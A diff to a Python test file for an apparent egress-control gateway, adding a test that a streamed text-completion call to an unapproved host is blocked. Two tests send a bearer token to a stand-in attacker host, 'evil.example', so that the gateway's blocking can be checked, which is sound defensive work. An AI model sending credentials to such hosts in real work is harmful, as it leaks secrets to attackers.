@@ -8,7 +8,7 @@ from typing import Any
 import httpx
 import litellm
 import pytest
-from gatehouse.core.call import Attempt, current_attempt
+from gatehouse.core.call import Attempt, Caller, GovernedCall, current_attempt
 from gatehouse.core.clock import monotonic, new_call_id, now
 from gatehouse.core.errors import EgressMismatch
 from gatehouse.gateway import destinations
@@ -210,6 +210,17 @@ async def test_what_is_done_beside_the_call_is_not_judged(attempt: Attempt) -> N
     await send(provider, f"https://evil.example{CHAT}", authorization=f"Bearer {ONE}")
     current_attempt.reset(token)
     assert provider.reached == 1
+
+
+async def test_a_stream_of_text_completions_is_judged_though_it_leaves_late(attempt: Attempt) -> None:
+    scope = current_scope.get()
+    assert scope is not None
+    scope.call = GovernedCall(scope.call_id, now(), "/v1/completions", "atext_completion", "m", True, Caller())
+    provider, token = Provider(), current_attempt.set(None)
+    with pytest.raises(httpx.RemoteProtocolError):
+        await send(provider, "https://evil.example/v1/completions", authorization=f"Bearer {ONE}")
+    current_attempt.reset(token)
+    assert provider.reached == 0
 
 
 @pytest.mark.parametrize(
